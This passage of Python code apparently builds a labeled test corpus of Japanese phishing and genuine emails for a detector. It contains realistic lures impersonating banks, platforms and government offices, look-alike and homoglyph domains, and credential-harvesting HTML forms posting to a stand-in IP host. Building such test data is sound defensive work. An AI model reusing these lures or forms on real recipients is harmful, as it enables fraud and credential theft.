  'genuine reservation confirmation', fname='じゃらんnet', auth=GP, eol='crlf')

# ---------------------------------------------------------------- Booking.com
P('booking-hotel-compromised-message', 'Booking.com', 'reservations@hotel-sakuragawa.co.jp',
  'ご予約に関する重要なお知らせ - Booking.com',
  'ご宿泊予定のお客様\n\nBooking.comからのご予約につきまして、カードの認証が完了しておりません。\n24時間以内に下記ページからカード情報をご確認いただけない場合、ご予約は自動的にキャンセルされます。\n\nhttps://booking.com-confirm-id48213.help/guest/verify\n\nホテル桜川　フロント',
  'compromised real-looking hotel domain (full pass); brand-as-prefix booking.com-confirm-*.help', fname='ホテル桜川 (Booking.com)', auth=GP, cte='quoted-printable')
G('booking-confirmation-genuine', 'Booking.com', 'noreply@booking.com',
  'Booking.com：予約確定のお知らせ（確認番号：4821.339.201）',
  'ご予約ありがとうございます。予約が確定しました。\n\n京都ステーションホテル\nチェックイン：2026年12月5日（金）15:00から\nチェックアウト：2026年12月6日（土）11:00まで\n\n[[予約の管理|https://secure.booking.com/myreservations.ja.html]]\n\n宿泊施設へのお支払い情報の入力をメールで求めることはありません。',
  'genuine confirmation with secure.booking.com link', fname='Booking.com', auth=GP, struct='alt')

# ---------------------------------------------------------------- Google
P('google-storage-full-sites', 'Google', 'google.one.notice@gmail.com',
  'Google ストレージ：容量が不足しています',
  'お客様の Google アカウントのストレージがいっぱいです。\n写真やメールが削除される前に、下記から無料で容量を追加してください。\n\nhttps://sites.google.com/view/gone-storage-jp/\n\nGoogle One チーム',
  'free mail gmail.com; free hosting on sites.google.com (brand-owned host); 容量不足 lure', fname='Google One', auth=GP)
P('google-forged-security-alert-noauth', 'Google', 'no-reply@accounts.google.com',
  'セキュリティ通知',
  '新しいデバイスからのログインがブロックされました\n\nGoogle アカウントへの不審なログインを検出しました。\nアカウントを保護するため、アクティビティを確認してください。\n\n[[アクティビティを確認|https://accounts.google.com.signin-v2.secure-acct.ru/ServiceLogin]]',
  'forged official sender, no AR; brand-as-subdomain on .ru', fname='Google', auth=None, struct='html')
G('google-security-alert-genuine', 'Google', 'no-reply@accounts.google.com',
  'セキュリティ通知',
  'Windows で新しいログインがありました\n\ntaro.yamada@example.jp\n\nGoogle アカウントへの新しいログインが検出されました。心当たりがある場合は、何もする必要はありません。心当たりがない場合は、アカウントの保護をお手伝いします。\n\n[[アクティビティを確認|https://accounts.google.com/AccountChooser?Email=taro.yamada@example.jp&continue=https://myaccount.google.com/alert/nt/1732]]\n\nセキュリティ アクティビティは https://myaccount.google.com/notifications でも確認できます。',
  'genuine security alert asking to review activity', fname='Google', auth=GP, struct='alt', cte='quoted-printable')
G('google-workspace-admin-genuine', 'Google', 'workspace-noreply@google.com',
  '[Google Workspace] お支払い情報の更新が必要です',
  '管理者様\n\nexample.jp の Google Workspace のお支払いに使用しているカードの有効期限が近づいています。\nサービスの中断を避けるため、管理コンソールでお支払い情報を更新してください。\nhttps://admin.google.com/ac/billing\n\nGoogle LLC',
  'genuine payment-info update request (phishing-like wording)', fname='Google Workspace', auth=GP)

# ---------------------------------------------------------------- Instagram / Facebook
P('instagram-copyright-forms', 'Instagram', 'copyright@meta-support-center.org',
  'Instagram：著作権侵害の申し立てについて',
  'お客様のアカウントの投稿について、著作権侵害の申し立てがありました。\n48時間以内に異議申し立てを行わない場合、アカウントは削除されます。\n\n異議申し立てフォーム：https://forms.gle/Ig7Copy21jp\n\nInstagram 著作権チーム',
  'look-alike org sender; Google Forms (free host) link; 48h deletion threat', fname='Instagram', auth=GL)
P('facebook-page-suspend-gmail', 'Facebook', 'meta.business.jp.info@gmail.com',
  '【Meta】ページがポリシー違反により停止されます',
  'Metaビジネスサポートです。\n\nお客様のFacebookページがコミュニティ規定に違反していると報告されました。\n24時間以内に確認手続きを行わない場合、ページは完全に停止されます。\n\nhttps://facebook-help-case-3381.vercel.app/\n\nMeta Platforms, Inc.',
  'free mail gmail.com; vercel.app hosting with brand name', fname='Meta Business', auth=GP, cte='8bit')
G('instagram-code-genuine', 'Instagram', 'security@mail.instagram.com',
  '123456はあなたのInstagramコードです',
  'こんにちは、\n\nアカウントにログインするためのリクエストを受け取りました。次のコードを入力してください:\n\n123456\n\nリクエストしていない場合は、このメッセージを無視してください。\n\n[[Instagramヘルプ|https://help.instagram.com/]]',
  'genuine login code', fname='Instagram', auth=GP, struct='alt')
G('facebook-login-genuine-facebookmail', 'Facebook', 'security@facebookmail.com',
  '新しいデバイスからのログイン',
  '山田さん\n\n11月22日 21:03に新しいデバイスからFacebookアカウントへのログインがありました。\n\nこのログインに心当たりがない場合は、アカウントを保護してください。\nhttps://www.facebook.com/hacked\n\nFacebookチーム',
  'genuine alert from secondary sending domain facebookmail.com', fname='Facebook', auth=GP, cte='quoted-printable')

# ---------------------------------------------------------------- X
P('x-verify-lookalike-badge', 'X', 'verify@x-support-team.com',
  'X：認証バッジの維持について',
  'お客様のアカウントは認証バッジの要件を満たしていません。\n72時間以内に本人確認を行わない場合、認証バッジが取り消されアカウントが凍結されます。\n\nhttps://x.com@x-verify-center.pages.dev/verify\n\nX Corp.',
  'userinfo trick https://x.com@attacker; pages.dev hosting; look-alike sender', fname='X', auth=GL)
G('x-verify-code-genuine', 'X', 'verify@x.com',
  'Xの確認コード',
  'メールアドレスを確認してください\n\nアカウント作成を完了するには、次の確認コードを入力してください。\n\n804211\n\nXヘルプセンター: https://help.x.com/',
  'genuine verification code', fname='X', auth=GP, cte='8bit')

# ---------------------------------------------------------------- Nintendo
P('nintendo-punycode-account', 'Nintendo', 'no-reply@%s.com' % puny('nіntendo-accounts'),
  '[ニンテンドーアカウント] 不正なログインについて',
  'ニンテンドーアカウントに不正なログインの可能性があります。\n\nアカウントを保護するため、パスワードを再設定してください。\nhttps://accounts.%s.com/reset\n\n任天堂株式会社' % puny('nіntendo-accounts'),
  'punycode homoglyph (Cyrillic і) sender and link', fname='Nintendo', auth=GL)
G('nintendo-signin-genuine', 'Nintendo', 'no-reply@accounts.nintendo.com',
  '[ニンテンドーアカウント] サインインのお知らせ',
  'ニンテンドーアカウントにサインインがありました。\n\n日時：2026/11/21 20:14\n\nお心当たりがない場合は、パスワードを変更してください。\nhttps://accounts.nintendo.com/\n\n任天堂株式会社',
  'genuine sign-in notice', fname='Nintendo', auth=GP)
G('nintendo-family-forward-gmail', 'Nintendo', 'hanako.yamada.family@gmail.com',
  'Fwd: [ニンテンドーアカウント] ご購入ありがとうございます',
  'お父さん、これ子どもが買ったソフトのレシートです。念のため転送します。\n\n---------- Forwarded message ---------\nFrom: Nintendo <no-reply@accounts.nintendo.com>\nSubject: [ニンテンドーアカウント] ご購入ありがとうございます\n\nご購入ありがとうございます。\n商品：スーパーマリオ ワンダー\n金額：6,578円\nhttps://accounts.nintendo.com/\n',
  'forward from family via Gmail of a genuine receipt', fname='山田花子', auth=GP, cte='8bit')

# ---------------------------------------------------------------- PlayStation
P('playstation-ban-onrender', 'PlayStation', 'psn-security@sie-account-help.com',
  '【PlayStation】アカウントの利用停止について',
  'PlayStation Network をご利用のお客様\n\n利用規約違反の疑いにより、アカウントを一時停止しました。\n異議がある場合は、下記ページからサインインして申し立ててください。\nhttps://psn-appeal-jp.onrender.com/signin\n\nSony Interactive Entertainment',
  'look-alike sender; onrender.com hosting', fname='PlayStation', auth=GL, charset='iso-2022-jp')
G('playstation-receipt-genuine', 'PlayStation', 'Sony@txn-email.playstation.com',
  'ご購入ありがとうございます',
  'PlayStation Store でのご購入ありがとうございます。\n\n注文番号：F1A2B3C4D5\n合計：2,990円\n\n取引履歴は https://store.playstation.com/ja-jp/ で確認できます。\n\nSony Interactive Entertainment LLC',
  'genuine receipt from ESP subdomain txn-email.playstation.com (sender plausible)', fname='PlayStation', auth=GP)

# ---------------------------------------------------------------- Steam
P('steam-typo-community-gift', 'Steam', 'gift@steamcommunlty.com',
  'Steam：フレンドからギフトが届いています',
  'フレンドからSteamギフトカード（5,000円分）が届きました。\n受け取るにはSteamにログインしてください。\n\nhttps://steamcommunlty.com/gift/accept?id=77812\n',
  'typo look-alike steamcommunlty (l for i)', fname='Steam', auth=GL, cte='8bit')
G('steam-guard-genuine', 'Steam', 'noreply@steampowered.com',
  'Steamアカウント：新しいデバイスからのアクセス',
  'Steam Guard コード：4F7KQ\n\n新しいブラウザーまたは端末からSteamアカウントへのログインが試みられました。\nあなたが行ったものでない場合は、パスワードを変更してください。\nhttps://help.steampowered.com/\n\nSteamサポート',
  'genuine Steam Guard code', fname='Steam', auth=GP)

# ---------------------------------------------------------------- U-NEXT / Spotify
P('unext-payment-fail-html', 'U-NEXT', 'billing@unext-member.info',
  '【U-NEXT】お支払い情報の更新のお願い',
  'U-NEXTをご利用いただきありがとうございます。\n\nご登録のクレジットカードで月額料金の決済ができませんでした。\nサービスを継続してご利用いただくため、お支払い情報を更新してください。\n\n[[お支払い情報を更新する|https://unext-member.info/billing/update]]\n\n株式会社U-NEXT',
  'look-alike .info; payment failure lure; HTML', fname='U-NEXT', auth=GL, struct='html', charset='iso-2022-jp')
G('unext-monthly-genuine', 'U-NEXT', 'info@unext.jp',
  '【U-NEXT】ポイントチャージのお知らせ',
  'U-NEXTをご利用いただきありがとうございます。\n今月の1,200ポイントをチャージしました。\n\nポイントの有効期限は90日です。\nhttps://video.unext.jp/\n\n株式会社U-NEXT',
  'genuine monthly points mail (sender plausible)', fname='U-NEXT', auth=GP)
P('spotify-forged-m365-fail', 'Spotify', 'no-reply@spotify.com',
  'Spotify Premium：お支払いに問題があります',
  'お支払いに問題が発生しました。\nPremiumを引き続きご利用いただくには、お支払い情報を確認してください。\n\n[[https://www.spotify.com/jp/account/|https://spotify-premium-jp.cfd/account]]\n\nSpotify',
  'forged official From, M365 AR fail; link text official URL, href .cfd', fname='Spotify', auth=MF, struct='html')
G('spotify-receipt-genuine', 'Spotify', 'no-reply@spotify.com',
  'Spotify Premiumの領収書',
  'Spotify Premiumをご利用いただきありがとうございます。\n\n日付：2026年11月15日\nプラン：Premium Individual\n金額：￥980（税込）\n\nアカウント情報：https://www.spotify.com/jp/account/overview/',
  'genuine receipt', fname='Spotify', auth=MP, struct='alt')

# ---------------------------------------------------------------- ISPs
P('ocn-mailbox-full-consumer-box', 'OCN', 'ocn-support@ocn.ne.jp',
  '【OCN】メールボックスの容量が上限に達しました',
  'OCNメールをご利用のお客様\n\nお客様のメールボックスの容量が上限（98%）に達しました。\n新しいメールを受信できなくなる前に、下記から容量を拡張してください（無料）。\n\nhttps://ocn-mail-storage.duckdns.org/upgrade\n',
  'sender is a consumer mailbox on the ISP domain (auth pass); duckdns dynamic DNS host', fname='OCNサポート', auth=IP_)
G('ocn-maintenance-genuine', 'OCN', 'ocn-info@ocn.ad.jp',
  '【OCN】メールサーバーメンテナンスのお知らせ',
  'OCNをご利用いただきありがとうございます。\n\n下記の日程でメールサーバーのメンテナンスを実施します。\n日時：2026年12月2日 2:00～5:00\n影響：OCNメールの送受信が一時的にできなくなります\n\n詳細：https://www.ocn.ne.jp/info/\n\nNTTドコモビジネス株式会社 OCN',
  'genuine maintenance notice (sender plausible; OCN site on ocn.ne.jp)', fname='OCN', auth=IP_, charset='iso-2022-jp')
P('biglobe-id-suspend-ip-html-attach', 'BIGLOBE', 'info@biglobe-member.top',
  '【BIGLOBE】会員IDの利用停止予告',
  'BIGLOBE会員様\n\nお客様のBIGLOBE IDが不正利用されている可能性があるため、利用停止を予定しています。\n継続してご利用いただく場合は、添付の確認フォームにご記入ください。\n\nビッグローブ株式会社',
  'HTML attachment with form posting to IP host; .top look-alike', fname='BIGLOBE', auth=GL, struct='mixed',
  attach=('BIGLOBE_ID確認.html', 'text/html', '<html><body><form action="http://203.0.113.201/bg/post.php" method="post">BIGLOBE ID<input name="id"><br>パスワード<input type="password" name="pw"><br><input type="submit" value="送信"></form></body></html>\n'))
G('biglobe-genuine', 'BIGLOBE', 'info@biglobe.ne.jp',
  '【BIGLOBE】ご利用料金のお知らせ',
  'BIGLOBEをご利用いただきありがとうございます。\n11月分のご利用料金が確定しました。\n\nご利用料金の詳細はマイページでご確認ください。\nhttps://support.biglobe.ne.jp/\n\nビッグローブ株式会社',
  'genuine billing notice (sender plausible; biglobe.ne.jp is also a consumer mailbox domain)', fname='BIGLOBE', auth=GP)
P('nifty-webmail-update-split-mid', '@nifty', 'support@nifty-webmail.icu',
  '@nifty メールアカウントの確認のお願い',
  '@niftyメールをご利用のお客様\n\nメールシステムの更新に伴い、アカウントの再確認が必要です。\n確認されない場合、12月1日以降メールの送受信ができなくなります。\n\nhttps://nifty-webmail.icu/login.php\n',
  'look-alike .icu; UTF-8 subject split mid-character', fname='@nifty', auth=GL, subj='splitmid')
G('nifty-genuine', '@nifty', 'info@nifty.com',
  '【@nifty】ご利用料金確定のお知らせ',
  '@niftyをご利用いただき、ありがとうございます。\n\n11月ご利用分の料金が確定しました。\n料金の内訳は@niftyトップページの「マイページ」からご確認いただけます。\nhttps://www.nifty.com/\n\nニフティ株式会社',
  'genuine billing notice; nifty.com also consumer mailbox domain (sender plausible)', fname='@nifty', auth=IP_, charset='iso-2022-jp', eol='crlf')

# ---------------------------------------------------------------- Work lures
P('docusign-r2-shared-doc', 'DocuSign', 'dse@docusign-notice.net',
  'DocuSign：「2026年度 業務委託契約書」の署名依頼',
  '株式会社サンプル商事 総務部 様より署名依頼が届いています。\n\n[[文書を確認する|https://pub-61ac8e.r2.dev/docs/view.html?e=taro.yamada@example.jp]]\n\nこのメールはDocuSignから送信されました。',
  'look-alike docusign-notice.net; r2.dev; recipient address prefilled', fname='DocuSign', auth=GL, struct='alt')
G('docusign-envelope-genuine', 'DocuSign', 'dse_NA3@docusign.net',
  '署名のお願い：秘密保持契約書_株式会社サンプル商事',
  '株式会社サンプル商事 鈴木一郎 様から文書の確認と署名の依頼が届いています。\n\n[[文書を確認|https://na3.docusign.net/Signing/EmailStart.aspx?a=5c1d&etti=24]]\n\nこのメールのリンクは他の人と共有しないでください。\nDocuSign',
  'genuine envelope from docusign.net (DocuSign secondary domain)', fname='鈴木一郎 via DocuSign', auth=GP, struct='alt', cte='quoted-printable')
P('sharepoint-shared-file-compromised', 'SharePoint/OneDrive', 'k.sato@tanaka-kensetsu.co.jp',
  '佐藤 健 さんがファイル「御見積書_2026.pdf」を共有しました',
  '佐藤 健 さんがあなたとファイルを共有しました。\n\n御見積書_2026.pdf\n\n[[開く|https://tanakakensetsu-my.sharepoint-docs.online/personal/k_sato/view]]\n\nこのメールは Microsoft OneDrive から送信されました。',
  'compromised business partner (full pass, M365 AR); sharepoint look-alike .online', fname='佐藤 健', auth=MP, struct='html')
P('webmail-quota-admin-generic', '社内メール管理者', 'admin@mail-quota-center.net',
  '【重要】メールボックス容量超過のお知らせ',
  'taro.yamada@example.jp 様\n\nお使いのメールボックスの容量が上限を超えています。\n24時間以内に容量を増やさない場合、受信メールが削除されます。\n\n[[今すぐ容量を増やす|https://example-jp.mail-quota-center.net/owa/?user=taro.yamada@example.jp]]\n\nexample.jp メールシステム管理者',
  'generic webmail quota lure, recipient domain as subdomain of attacker', fname='example.jp 管理者', auth=GL, struct='html', charset='iso-2022-jp')
P('webmail-password-expiry-qp-sjis', '社内メール管理者', 'it-helpdesk@example-jp-secure.com',
  'パスワード有効期限のお知らせ',
  '社員各位\n\nお使いのメールアカウントのパスワードが本日で有効期限切れとなります。\n現在のパスワードを維持するには、下記より確認してください。\nhttps://login-example-jp.azurewebsites.net/keep\n\n情報システム部',
  'recipient-company impersonation, azurewebsites.net hosting; Shift_JIS QP', fname='情報システム部', auth=GL, charset='shift_jis', cte='quoted-printable')

# ---------------------------------------------------------------- NHK
P('nhk-jushinryo-unpaid-forged', 'NHK', 'info@nhk.or.jp',
  '【NHK】放送受信料のお支払いについて（最終通知）',
  'NHKより放送受信料についてのお知らせです。\n\nお客様の放送受信料が未払いとなっております。\n本通知から3日以内にお支払いいただけない場合、割増金（受信料の2倍）を請求させていただきます。\n\nお支払い手続き：https://nhk-jushinryo.jp-pay.vip/\n\n日本放送協会 受信料の窓口',
  'forged official From (ISP AR softfail/DMARC fail); 割増金 threat; .vip', fname='NHK', auth=IF, charset='iso-2022-jp', eol='crlf')
P('nhk-sms-forward-family', 'NHK', 'kazuko.yamada55@yahoo.co.jp',
  'Fwd: こんなの来たけど',
  'これ本物？払った方がいいの？\n\n【NHK】受信料の未払いがあります。本日中にお支払いください。https://t.ly/nHk7\n',
  'family forwards SMS text (Yahoo! mail, auth pass); t.ly shortener; label phish', fname='山田和子', auth=GP, cte='8bit')
G('nhk-cs-genuine', 'NHK', 'info@nhk-cs.jp',
  '【NHK受信料の窓口】住所変更手続き完了のお知らせ',
  'NHK受信料の窓口をご利用いただきありがとうございます。\n\n住所変更のお手続きを受け付けました。\nお手続き内容はインターネットで確認できます。\nhttps://www.nhk-cs.jp/\n\n日本放送協会',
  'genuine procedure notice (nhk-cs.jp is NHK受信料の窓口 site; sender plausible)', fname='NHK受信料の窓口', auth=GP)

# ---------------------------------------------------------------- 厚生労働省 / 自治体
P('mhlw-kyufukin-lookalike', '厚生労働省', 'kyufu@mhlw-go-jp.org',
  '【厚生労働省】物価高騰対策給付金（1人5万円）の申請受付について',
  '国民の皆様へ\n\n物価高騰対策として、1人あたり5万円の給付金の申請受付を開始しました。\n申請期限：2026年12月10日\n\n申請はこちら：https://mhlw-go-jp.org/kyufu/apply\n\n※口座情報および本人確認書類の登録が必要です。\n厚生労働省',
  'look-alike mhlw-go-jp.org; 給付金 lure asking bank account', fname='厚生労働省', auth=GL, struct='alt')
P('city-teigaku-genzei-shortener', '市役所', 'genzei@city-tokyo-office.com',
  '【重要】定額減税 調整給付金のお知らせ',
  '市民の皆様\n\n定額減税の調整給付金（不足額給付）の対象となっております。\n受給には以下のURLからお手続きが必要です。\nhttps://cutt.ly/genzei2026\n\n手続き期限を過ぎると受給できません。\n市役所 税務課',
  'invented municipal-looking domain; cutt.ly shortener; EUC-JP', fname='市役所 税務課', auth=GL, charset='euc-jp', cte='8bit')
P('mhlw-forged-go-jp-noauth-qr', '厚生労働省', 'info@mhlw.go.jp',
  '【厚生労働省】健康保険証の切替手続きのご案内',
  '従来の健康保険証は使用できなくなりました。\n資格確認書の発行手続きを行ってください。\nスマートフォンで二次元コードを読み取ってお手続きください。\n\n{{img:qr}}\n\n厚生労働省 保険局',
  'forged .go.jp From, no AR; QR image only', fname='厚生労働省', auth=None, struct='related')
G('mhlw-mailmagazine-genuine', '厚生労働省', 'mhlw-mail@mhlw.go.jp',
  '厚生労働省 新着情報配信サービス（11月21日）',
  '厚生労働省 新着情報配信サービス\n\n■報道発表\n・「年末年始の医療提供体制」について\nhttps://www.mhlw.go.jp/stf/newpage_41234.html\n\n・特殊詐欺や給付金をかたる詐欺にご注意ください\n厚生労働省や自治体が、メールやSMSで給付金の手続きのためにATMの操作や口座情報の入力を求めることはありません。\nhttps://www.mhlw.go.jp/stf/seisakunitsuite/sagi.html\n\n配信停止：https://www.mhlw.go.jp/mailmagazine/',
  'genuine newsletter full of 給付金/詐欺 words (sender plausible)', fname='厚生労働省', auth=GP, charset='iso-2022-jp')
G('city-yokohama-genuine', '市役所', 'kz-kyufu@city.yokohama.lg.jp',
  '【横浜市】調整給付金の振込予定日のお知らせ',
  '横浜市 調整給付金コールセンターです。\n\nお申し込みいただいた調整給付金の振込予定日をお知らせします。\n振込予定日：2026年12月12日\n\n※横浜市がメールで暗証番号や口座情報の入力を求めることはありません。\n詳細：https://www.city.yokohama.lg.jp/\n\n横浜市 財政局',
  'genuine municipal mail on .lg.jp (sender plausible)', fname='横浜市', auth=IP_, charset='iso-2022-jp')

# ---------------------------------------------------------------- extra phishing variety
P('rakutensec-reply-only-id-request', '楽天証券', 'rakuten-sec.kyc@outlook.com',
  '楽天証券：本人確認のご協力のお願い',
  '楽天証券をご利用のお客様\n\n犯罪収益移転防止法に基づき、お客様の本人確認を実施しております。\n本メールに、ログインID・生年月日・取引暗証番号をご記入のうえご返信ください。\n\n楽天証券株式会社 本人確認センター',
  'reply-only (no link), free mail outlook.com, asks ID and PIN', fname='楽天証券', auth=MP)
P('amex-sms-style-carrier', 'アメリカン・エキスプレス', '09012345678@ezweb.ne.jp',
  '',
  '【アメックス】ご利用確認のため一時停止しました。https://amex-jp-check.com/s',
  'SMS-style one-liner from random carrier mailbox, empty subject', fname='', auth=GP, cte='8bit')
P('netbk-display-name-official-address', '住信SBIネット銀行', 'info-mail@kawa-sec.xyz',
  '【住信SBIネット銀行】お取引時確認のお願い',
  'いつもご利用いただきありがとうございます。\n\nお取引時確認が完了していないため、お振込の上限額を0円に設定しました。\n下記からお手続きください。\nhttps://netbk.kakunin-kawa.xyz/\n\n住信SBIネット銀行株式会社',
  'display name contains the official address "info@netbk.co.jp"; .xyz', fname='info@netbk.co.jp', auth=GL)
P('sonybank-zero-width-brand', 'ソニー銀行', 'notice@sb-account.help',
  'ソ\u200bニ\u200bー銀行：ログイン制限のお知らせ',
  'ソ\u200bニ\u200bー銀行をご利用のお客様\n\n複数回のログイン失敗によりログインを制限しました。\n解除はこちらから：https://sb-account.help/unlock\n',
  'zero-width spaces inside brand name in subject and body; .help', fname='ソ\u200bニ\u200bー銀行', auth=GL)
P('nomura-fullwidth-brand-euc', '野村證券', 'notice@nmr-sec.link',
  'ＮＯＭＵＲＡ　口座確認のお願い',
  'ＮＯＭＵＲＡ証券をご利用のお客様\n\nお客様の口座に関する重要なお知らせがあります。\nhttps://nmr-sec.link/login\n\nＮＯＭＵＲＡ',
  'full-width latin brand name; .link; EUC-JP', fname='ＮＯＭＵＲＡ', auth=GL, charset='euc-jp', cte='8bit')
P('google-docs-share-compromised-drive', 'Google', 'y.kobayashi@kobayashi-shouten.co.jp',
  '共有ドキュメント：「請求書_11月分」',
  '小林 様があなたとドキュメントを共有しました。\n\n請求書_11月分\n\n[[Google ドキュメントで開く|https://docs-google.com.share-view.click/d/1xA9k/edit]]\n\nGoogle ドライブ',
  'compromised business sender (full pass); docs-google.com as subdomain of .click', fname='小林 (Google ドキュメント)', auth=GP, struct='html')
P('orico-q-encoded-subject-noauth', 'オリコ', 'orico-info@orico.co.jp',
  '【オリコ】カードの利用が制限されています',
  'オリコカードをご利用のお客様\n\nお客様のカードで不審な利用を確認したため、ご利用を制限しております。\n制限解除のため、カード番号・有効期限・セキュリティコードをご確認ください。\nhttps://orico-co-jp.kaijo-center.top/\n',
  'forged official From, no AR; Q-encoded subject; asks card number and CVV', fname='オリコ', auth=None, subj='q')
P('unext-exe-attachment', 'U-NEXT', 'support@unext-jp.biz',
  '【U-NEXT】ご利用明細書',
  'U-NEXTをご利用いただきありがとうございます。\n今月のご利用明細書を添付いたします。ご確認ください。\n',
  'executable attachment with Japanese name; look-alike .biz', fname='U-NEXT', auth=GL, struct='mixed',
  attach=('ご利用明細書_2026年11月.exe', 'application/octet-stream', b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + b'\x00' * 48))
P('dcard-sms-self-forward-ip', 'dカード', 'taro.yamada.home@example.jp',
  'Fwd: dカードからのSMS',
  '---\n【dカード】ご利用金額が上限に達しました。確認：http://198.51.100.23/dcard\n',
  'SMS text forwarded to self; IP host link', fname='山田太郎', auth=GP, cte='8bit')
P('steam-sms-style-free-yahoo', 'Steam', 'steam.gift.jp@yahoo.co.jp',
  'ギフト',
  'Steamでギフトを受け取りました！こちらから受け取る→ https://s.id/steamgiftjp',
  'free mail yahoo.co.jp; s.id shortener; one line', fname='Steam', auth=GP, cte='8bit')
P('booking-reply-card-request', 'Booking.com', 'booking.reservation.jp@gmail.com',
  'Booking.com　予約番号 3392.118.204 の確認',
  'お客様\n\nご予約の保証のため、ご利用予定のクレジットカード番号、有効期限、セキュリティコードを本メールへの返信でお知らせください。\n本日中にご返信がない場合、予約はキャンセルされます。\n\nBooking.com カスタマーサービス',
  'reply-only card request from gmail.com', fname='Booking.com', auth=GP)
P('chiba-bank-lookalike-html-visible', '千葉銀行', 'info@chibabank-co.jp',
  '【千葉銀行】ちばぎんダイレクトのセキュリティ強化について',
  'ちばぎんダイレクトをご利用のお客様\n\nセキュリティ強化に伴い、ワンタイムパスワードの再登録が必要です。\n\n[[https://www.chibabank.co.jp/direct/|https://www.chibabank-co.jp/direct/index.php]]\n\n株式会社千葉銀行',
  'hyphen look-alike chibabank-co.jp (own pass); link text shows official URL', fname='千葉銀行', auth=GL, struct='html', charset='iso-2022-jp', eol='crlf')
P('paypaybank-forged-gmail-dmarc-none', 'PayPay銀行', 'info@paypay-bank.co.jp',
  '【PayPay銀行】口座凍結のお知らせ',
  'お客様の口座は凍結されました。\n解除するには以下から本人確認を行ってください。\nhttps://paypay-bank.co.jp.unfreeze-kyc.top/\n',
  'forged official From with DMARC fail but p=NONE (delivered); brand-as-subdomain .top', fname='PayPay銀行', auth=GF, policy='NONE')
P('yokohama-bank-m365-compromised-nonjp', '横浜銀行', 'office@zeltner-immobilien.de',
  '【横浜銀行】お取引目的の確認',
  '横浜銀行をご利用いただきありがとうございます。\n\nお取引目的等の確認にご協力ください。未回答の場合、お取引を制限します。\nhttps://boy-co-jp.torihiki-kakunin.sbs/\n',
  'compromised foreign company mailbox (full pass, M365 AR); .sbs', fname='横浜銀行', auth=MP)
P('monex-html-form-body', 'マネックス証券', 'info@monex-secure.jp',
  '【マネックス証券】ログインパスワード再設定',
  '',
  'HTML form in mail body posting to invented host', fname='マネックス証券', auth=GL, struct='html',
  html='<html><head><meta charset="%%CS%%"></head><body><p>マネックス証券をご利用のお客様</p><p>パスワードの有効期限が切れました。以下に入力して再設定してください。</p><form action="https://monex-secure.jp/reset.php" method="post">ログインID <input name="id"><br>現在のパスワード <input type="password" name="pw"><br>取引パスワード <input type="password" name="tpw"><br><input type="submit" value="再設定"></form></body></html>\n')
P('x-copyright-lookalike-iso', 'X', 'copyright@x-com-legal.net',
  '【X】著作権侵害の通知',
  'お客様の投稿が著作権を侵害しているとの報告を受けました。\n異議申し立てがない場合、24時間後にアカウントを停止します。\n\nhttps://x-com-legal.net/appeal\n\nX 法務チーム',
  'look-alike x-com-legal.net; ISO-2022-JP split subject', fname='X', auth=GL, charset='iso-2022-jp', subj='split')
P('playstation-forged-noauth-sjis', 'PlayStation', 'no-reply@playstation.com',
  'PlayStation Network：サインインIDの確認',
  'お客様のアカウントは安全上の理由から一時的にロックされました。\n以下からサインインIDとパスワードを確認してください。\nhttp://psn.jp-signin.cc/\n',
  'forged official From without AR; .cc; Shift_JIS 8bit; CRLF', fname='PlayStation', auth=None, charset='shift_jis', cte='8bit', eol='crlf')
P('spotify-sites-weebly', 'Spotify', 'spotify.premium.support@outlook.jp',
  'Spotify：アカウントが一時停止されました',
  'お支払いの問題により、Spotifyアカウントを一時停止しました。\n再開するにはこちら：https://spotify-jp-renew.weebly.com/\n',
  'free mail outlook.jp; weebly.com free hosting', fname='Spotify', auth=MP)
P('nhk-lookalike-html-visible', 'NHK', 'uketsuke@nhk-cs-jp.com',
  '【NHK受信料の窓口】お支払い方法の変更について',
  'NHK受信料の窓口です。\n\nクレジットカードの有効期限が切れているため、受信料のお支払いができませんでした。\n以下からお支払い方法を更新してください。\n\n[[https://www.nhk-cs.jp/jushinryo/|https://www.nhk-cs-jp.com/jushinryo/card]]\n',
  'look-alike nhk-cs-jp.com; link text shows official URL', fname='NHK受信料の窓口', auth=GL, struct='html')
P('jalan-forged-m365-qp', 'じゃらん', 'info@jalan.net',
  '【じゃらん】ポイント有効期限のお知らせ',
  'じゃらんnetをご利用いただきありがとうございます。\n\nお客様の期間限定ポイント（3,500pt）が本日失効します。\n失効前に下記よりログインしてご利用ください。\nhttps://jalan-net.point-get.cyou/login\n',
  'forged official From, M365 fail; .cyou', fname='じゃらんnet', auth=MF, cte='quoted-printable')
P('zozo-compromised-iso', 'ZOZOTOWN', 'info@kimura-shika.jp',
  '【ZOZOTOWN】アカウント情報の確認',
  'ZOZOTOWNをご利用いただきありがとうございます。\n\nお客様のアカウントで異常なログインを検出しました。\n安全のため、アカウント情報の確認をお願いします。\nhttps://zozo.jp.account-verify.sbs/login\n',
  'compromised dental clinic (full pass); zozo.jp as subdomain of .sbs', fname='ZOZOTOWN', auth=GP, charset='iso-2022-jp')
P('nifty-forged-isp-ar', '@nifty', 'info@nifty.com',
  '【@nifty】セキュリティ警告：不審なログイン',
  '@nifty IDへの不審なログインがありました。\n下記からパスワードを変更してください。\nhttps://nifty-id-secure.top/login\n',
  'forged official From, ISP AR softfail / DMARC fail', fname='@nifty', auth=IF)
P('mhlw-vaccine-refund-callback', '厚生労働省', 'mhlw.kyufu@yahoo.co.jp',
  '医療費還付金のお知らせ',
  '厚生労働省です。\n\nお客様には医療費の還付金（28,600円）がございます。\n受け取りには、本日中に下記の専用ダイヤルまでお電話ください。ATMでのお手続きをご案内します。\n\n還付金専用ダイヤル：03-6890-2214\n',
  'call-back only (ATM 還付金詐欺 pattern); free mail yahoo.co.jp', fname='厚生労働省', auth=GP, charset='iso-2022-jp')
P('daiwa-ipo-lottery-bitly-html', '大和証券', 'ipo@daiwa-ipo-info.com',
  '【大和証券】IPO当選のお知らせ',
  'おめでとうございます。\nお客様はIPO抽選に当選されました。\n購入申込期限は本日15時までです。\n\n[[購入申込はこちら|https://bit.ly/daiwaIPO26]]\n',
  'look-alike sender; bit.ly in HTML', fname='大和証券', auth=GL, struct='html')
P('sbishinsei-lookalike-ml-subdomain', 'SBI新生銀行', 'koho@ml.sbishinseibank-co.jp',
  '【SBI新生銀行】重要なお知らせ',
  'SBI新生銀行をご利用のお客様\n\n口座維持手数料の改定に伴い、お客様情報の再登録をお願いしております。\nhttps://ml.sbishinseibank-co.jp/regist\n',
